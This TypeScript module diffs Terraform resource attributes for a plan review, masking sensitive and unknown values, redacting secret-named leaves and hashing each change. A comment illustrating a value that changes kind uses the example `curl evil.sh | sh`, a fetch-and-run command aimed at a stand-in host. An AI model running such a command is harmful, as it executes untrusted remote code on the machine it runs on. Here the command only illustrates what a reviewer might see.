/**
 * The changed leaves of a resource between before and after, as a review shows them: masked by
 * Terraform's marks, blocks matched by content, JSON documents in strings compared by what they say,
 * and a hash over every whole value so two changes that read alike but differ are told apart.
 */
import { createHash } from "node:crypto";
import { isRecord, MAX_NESTING } from "../json";
import { exactJson } from "./exact-numbers";
import { flaggedItemNames, hideFlaggedItems } from "./flagged-items";
import { displayText, formatPair, formatValue, secretNamedLeaf } from "./format-value";
import { comparablePair, decodeWalkableJson, holdsJsonDocument, LISTED, showLeaf } from "./json-attributes";
import { coversAll, isContainer, isEmptyMark, type Mask, marksLeaf, marksNothing, subMask } from "./marks";
import { movedElements } from "./moved-elements";
import { pairedName } from "./name-value-pairs";
import { REDACTED_VALUE } from "./redacted-value";
import { alignScalars } from "./scalar-alignment";
import { displayable, maskValue, SHOW_SENSITIVE, SHOW_TOO_DEEP, SHOW_UNKNOWN } from "./values";

/** One changed leaf: path like `rules[0].action`, values already formatted for display. */
export interface AttributeDiff {
  readonly path: string;
  readonly before: string;
  readonly after: string;
}

export interface DiffInput {
  readonly before: unknown;
  readonly after: unknown;
  readonly beforeSensitive: Mask;
  readonly afterSensitive: Mask;
  readonly afterUnknown: Mask;
}

/** `path` with one more key: `[0]` for a position, `.name`, or `."a b"` when the key is not a plain name. */
export function joinPath(path: string, key: string | number): string {
  if (typeof key === "number") return `${path}[${key}]`;
  const safe = /^[A-Za-z_][A-Za-z0-9_-]*$/.test(key) ? key : JSON.stringify(key);
  return path === "" ? safe : `${path}.${safe}`;
}

function sameJson(a: unknown, b: unknown): boolean {
  if (a === b) return true;
  if (typeof a !== "object" || typeof b !== "object" || a === null || b === null) return false;
  return exactJson(a) === exactJson(b);
}

/** A block without its empty members (null, "", [], {}): a removed or added block shown whole fits its line. */
function withoutEmpty(value: unknown): unknown {
  if (!isRecord(value)) return value;
  const empty = (v: unknown) =>
    v === null || v === undefined || v === "" || (Array.isArray(v) && v.length === 0) || (isRecord(v) && isEmptyMark(v));
  return Object.fromEntries(Object.entries(value).filter(([, v]) => !empty(v)));
}

/** Whether a value is a list, an object or a scalar; undefined for none (absent or null). */
function shapeOf(value: unknown): "list" | "object" | "scalar" | undefined {
  if (value === undefined || value === null) return undefined;
  return Array.isArray(value) ? "list" : isRecord(value) ? "object" : "scalar";
}

/** A comparable document's sets as the lists they were (`{"a": LISTED}` is `["a"]`), for a value shown whole. */
function listedAsLists(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(listedAsLists);
  if (!isRecord(value)) return value;
  const entries = Object.entries(value);
  if (entries.length > 0 && entries.every(([, v]) => v === LISTED)) return entries.map(([k]) => k);
  return Object.fromEntries(entries.map(([k, v]) => [k, listedAsLists(v)]));
}

/**
 * One side of a change of kind, as a whole value is shown: a container with its sensitive and unknown
 * parts as their markers (a document's sets as lists), a scalar as it is (its mark was read before).
 */
function wholeValue(value: unknown, sensitive: Mask, unknown: Mask, inDocument: boolean): unknown {
  if (!isContainer(value)) return value;
  return inDocument ? listedAsLists(value) : displayable(maskValue(value, sensitive, unknown));
}

/** A raw value in a change's key (never shown): sensitive and unknown parts as markers no JSON text holds. */
function keyText(value: unknown, sensitive: Mask, unknown: Mask = undefined): string {
  if (coversAll(unknown)) return "\u0000unknown";
  if (marksLeaf(value, sensitive) && value !== null && value !== undefined) return "\u0000sensitive";
  if (isEmptyMark(sensitive) && isEmptyMark(unknown)) return exactJson(value ?? null) ?? "null";
  return exactJson(displayable(maskValue(value, sensitive, unknown))) ?? "null";
}

/**
 * Changed leaves between before and after, masked; at most `limit` (the rest are counted). `key` is a
 * hash of every changed leaf with its whole value (a displayed value is cut at 160 characters and
 * redacted), so two changes with one key make the same change.
 */
export function diffAttributes(
  input: DiffInput,
  limit = 40,
  scrub?: (text: string) => string,
  /** False: a block added or removed whole shows leaf by leaf (a data source's statements), not as one cut line. */
  wholeBlocks = true,
): { diffs: AttributeDiff[]; omitted: number; key: string } {
  const diffs: AttributeDiff[] = [];
  let omitted = 0;
  const fingerprint = createHash("sha256");
  const push = (d: AttributeDiff, before: string, after: string): void => {
    fingerprint.update(`${JSON.stringify(d.path)}\u0000${before}\u0000${after}\u0001`);
    if (diffs.length < limit) diffs.push(d);
    else omitted++;
  };
  // A container is shown with the parts its mark covers hidden (`{note = (sensitive), user = "a"} -> (known
  // after apply)`), as Terraform prints it; unmasked, the marked part would be shown in the clear.
  const show = (v: unknown, sensitive: Mask): string =>
    marksLeaf(v, sensitive) && v !== null && v !== undefined
      ? SHOW_SENSITIVE
      : formatValue(isContainer(v) && !isEmptyMark(sensitive) ? displayable(maskValue(v, sensitive)) : v, scrub);
  const leaf = (key: string | number | undefined, v: unknown): string => (secretNamedLeaf(key, v) ? REDACTED_VALUE : formatValue(v, scrub));
  const leafText = (key: string | number | undefined, v: unknown, readChars: number): string =>
    secretNamedLeaf(key, v) ? REDACTED_VALUE : displayText(v, scrub ?? ((t) => t), readChars);
  const walk = (b: unknown, a: unknown, bs: Mask, as: Mask, au: Mask, path: string, depth: number, key?: string | number): void => {
    if (coversAll(au)) {
      push({ path: path || "(value)", before: show(b, bs), after: SHOW_UNKNOWN }, keyText(b, bs), keyText(a, as, au));
      return;
    }
    if (marksLeaf(b, bs) || marksLeaf(a, as)) {
      if (!sameJson(b, a)) push({ path: path || "(value)", before: show(b, bs), after: show(a, as) }, keyText(b, bs), keyText(a, as));
      // The same value, marked on one side only: Terraform plans it as a change (`~ x = (sensitive
      // value)`), so the review shows one, hiding the value on both sides (it is the one now secret).
      else if (marksLeaf(b, bs) !== marksLeaf(a, as) && b !== null && b !== undefined)
        push(
          {
            path: path || "(value)",
            before: SHOW_SENSITIVE,
            after: `${SHOW_SENSITIVE} (value unchanged; ${marksLeaf(a, as) ? "now marked sensitive" : "no longer marked sensitive"})`,
          },
          keyText(b, bs),
          keyText(a, as),
        );
      return;
    }
    if (
      wholeBlocks &&
      (b === undefined || b === null) !== (a === undefined || a === null) &&
      (isContainer(b) || isContainer(a)) &&
      !path.includes("{}") &&
      !(isContainer(a) && holdsJsonDocument(a))
    ) {
      // a whole block added or removed: one line, not one per leaf. A new block holding a JSON document
      // (an inline_policy's policy) is walked instead: its statements are what a reviewer must read,
      // and one line is cut at 160 characters, before the second statement.
      const side = (v: unknown, sensitive: Mask, unknown: Mask): string =>
        v === undefined || v === null ? "null" : formatValue(displayable(maskValue(v, sensitive, unknown)), scrub);
      push({ path: path || "(value)", before: side(b, bs, undefined), after: side(a, as, au) }, keyText(b, bs), keyText(a, as, au));
      return;
    }
    if (depth >= MAX_NESTING && (isContainer(b) || isContainer(a) || isContainer(au))) {
      // Deeper than any Terraform value: compared whole, shown as a placeholder, walked no further.
      const deep = (v: unknown): string => (isContainer(v) ? SHOW_TOO_DEEP : leaf(key, v));
      const unknownBelow = !marksNothing(au);
      if (unknownBelow || !sameJson(b, a))
        push({ path, before: deep(b), after: unknownBelow ? SHOW_UNKNOWN : deep(a) }, keyText(b, bs), keyText(a, as, au));
      return;
    }
    if (shapeOf(b) !== shapeOf(a) && shapeOf(b) !== undefined && shapeOf(a) !== undefined) {
      // A value that changes kind (`{a = "b"} -> "curl evil.sh | sh"`): one line with both whole values, as
      // Terraform prints it. Walked into whichever side is a container, the other side would not be shown.
      const inDocument = path.includes("{}");
      const [mb, ma] = [wholeValue(b, bs, undefined, inDocument), wholeValue(a, as, au, inDocument)];
      const [before, after] = formatPair(mb, ma, (v, readChars) =>
        isContainer(v)
          ? displayText(v, scrub ?? ((t) => t), readChars)
          : inDocument
            ? showLeaf(v, (x) => leafText(key, x, readChars))
            : leafText(key, v, readChars),
      );
      push({ path: path || "(value)", before, after }, keyText(b, bs), keyText(a, as, au));
      return;
    }
    if (Array.isArray(b) || Array.isArray(a) || Array.isArray(au)) {
      const bl = Array.isArray(b) ? b : [];
      const al = Array.isArray(a) ? a : [];
      const moved = movedElements(bl, al, bs, as, au);
      if (moved) {
        // Blocks matched by content (a security group's rules): one removed, one added, the rest unchanged
        // or, alike the one in their place, changed in place.
        for (const i of moved.changed ?? [])
          walk(bl[i], al[i], subMask(bs, i), subMask(as, i), subMask(au, i), joinPath(path, i), depth + 1, key);
        for (const i of moved.removed)
          walk(withoutEmpty(bl[i]), undefined, subMask(bs, i), undefined, undefined, joinPath(path, i), depth + 1, key);
        for (const i of moved.added)
          walk(undefined, withoutEmpty(al[i]), undefined, subMask(as, i), subMask(au, i), joinPath(path, i), depth + 1, key);
        return;
      }
      // The item after a secret flag (`["app", "--password", X]`) stands under the flag, on either side.
      const [fb, fa] = [flaggedItemNames(bl), flaggedItemNames(al)];
      const aligned = marksNothing(bs) && marksNothing(as) && marksNothing(au) ? alignScalars(bl, al) : undefined;
      if (aligned) {
        // Plain values lined up: one removed or inserted reads as that one (`[1]: "--dry-run" -> null`),
        // not as each later one changed into its neighbour; one changed in place reads at its new index.
        for (const { before: i, after: j } of aligned)
          walk(
            i === undefined ? undefined : bl[i],
            j === undefined ? undefined : al[j],
            undefined,
            undefined,
            undefined,
            joinPath(path, j ?? i ?? 0),
            depth + 1,
            (i === undefined ? undefined : fb?.[i]) ?? (j === undefined ? undefined : fa?.[j]) ?? key,
          );
        return;
      }
      const n = Math.max(bl.length, al.length, Array.isArray(au) ? au.length : 0);
      for (let i = 0; i < n; i++)
        walk(bl[i], al[i], subMask(bs, i), subMask(as, i), subMask(au, i), joinPath(path, i), depth + 1, fb?.[i] ?? fa?.[i] ?? key);
      return;
    }
    if (isRecord(b) || isRecord(a) || isRecord(au)) {
      const bo = isRecord(b) ? b : {};
      const ao = isRecord(a) ? a : {};
      const keys = new Set([...Object.keys(bo), ...Object.keys(ao), ...(isRecord(au) ? Object.keys(au) : [])]);
      // The value of a name/value pair is shown as if under its name: `{name: "DB_PASSWORD", value: X}`.
      for (const k of [...keys].sort())
        walk(bo[k], ao[k], subMask(bs, k), subMask(as, k), subMask(au, k), joinPath(path, k), depth + 1, pairedName(bo, k, [ao]));
      return;
    }
    const [jb, ja] = [decodeWalkableJson(b), decodeWalkableJson(a)];
    if (
      (jb !== undefined || ja !== undefined) &&
      (jb !== undefined || b === undefined || b === null || b === "") &&
      (ja !== undefined || a === undefined || a === null)
    ) {
      // A JSON document in a string (a policy): compare what it says, leaf by leaf, under `path{}`.
      if (!sameJson(jb, ja)) {
        // Items after a secret flag go before lists become sets of their strings (and paths of them).
        const [hb, ha] = [hideFlaggedItems(jb ?? {}), hideFlaggedItems(ja ?? {}, jb, true)];
        const [cb, ca] = comparablePair(hb, ha);
        walk(cb, ca, undefined, undefined, undefined, `${path}{}`, depth + 1);
      }
      return;
    }
    if (sameJson(b ?? null, a ?? null)) return;
    const raw = [keyText(b, undefined), keyText(a, undefined)] as const;
    // Both sides at once: two long values alike up to the cut are shown around their first difference.
    const inDocument = path.includes("{}");
    const [before, after] = formatPair(b, a, (v, readChars) =>
      inDocument ? showLeaf(v, (x) => leafText(key, x, readChars)) : leafText(key, v, readChars),
    );
    push({ path: path || "(value)", before, after }, ...raw);
  };
  walk(input.before, input.after, input.beforeSensitive, input.afterSensitive, input.afterUnknown, "", 0);
  return { diffs, omitted, key: fingerprint.digest("hex") };
}
